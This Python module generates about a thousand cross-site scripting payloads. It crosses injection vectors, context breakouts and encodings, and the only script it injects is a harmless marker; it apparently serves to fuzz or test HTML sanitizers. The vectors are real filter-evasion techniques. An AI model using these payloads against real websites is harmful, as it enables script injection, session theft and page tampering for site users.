"""A thousand ways to smuggle a script into a page: what is said times how one breaks out times how
it is written."""

import random
from itertools import product
from urllib.parse import quote

JS = "window.poisoned=1"
VECTORS = (
    "<script>{js}</script>",
    "<script src=data:text/javascript,{js}></script>",
    "<img src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<body onload={js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'>",
    "<iframe src=javascript:parent.{js}>",
    "<a href=javascript:{js} autofocus onfocus={js}>x</a>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}>",
    "<textarea autofocus onfocus={js}>",
    "<video><source onerror={js}></video>",
    "<details open ontoggle={js}>",
    "<math><mtext><script>{js}</script></mtext></math>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<form action=javascript:{js}><button autofocus>x</button></form>",
    "<link rel=stylesheet href=javascript:{js}>",
    "<style>@import 'javascript:{js}';</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "<base href=javascript:/{js}//>",
    "<template><img src=x onerror={js}></template>",
    "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<marquee onstart={js}>",
    " onmouseover={js} autofocus onfocus={js} ",
    "javascript:{js}",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "{{% if 1 %}}<script>{js}</script>{{% endif %}}",
)
BREAKS = ("", '"', "'", '">', "'>", "</textarea>", "</title>", "</script>", "-->", "]]>")
BREAKS += ("</option>", "</svg>", '\\"', "`")


def _plain(text: str) -> str:
    return text


def _mixed(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text)).replace(JS.upper(), JS)


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace('"', "&quot;")


def _numbers(text: str) -> str:
    return text.replace("<", "&#x3c;").replace(">", "&#62;")


def _percent(text: str) -> str:
    return quote(text)


def _escapes(text: str) -> str:
    return text.replace("<", "\\u003c").replace("'", "\\x27")


WRITINGS = (_plain, _mixed, _entities, _numbers, _percent, _escapes)


def payloads(most: int = 1000) -> list[str]:
    """Distinct ones, some of each sort; the same each time."""
    every = dict.fromkeys(
        write(leave + vector.format(js=JS))
        for write, leave, vector in product(WRITINGS, BREAKS, VECTORS)
    )
    return random.Random(1).sample(list(every), most)


def bundles(length: int) -> list[str]:
    """All of them, in texts of about so many characters."""
    found, text = [], ""
    for each in payloads():
        if text and len(text) + len(each) > length:
            found.append(text)
            text = ""
        text += each + " "
    return [*found, text]
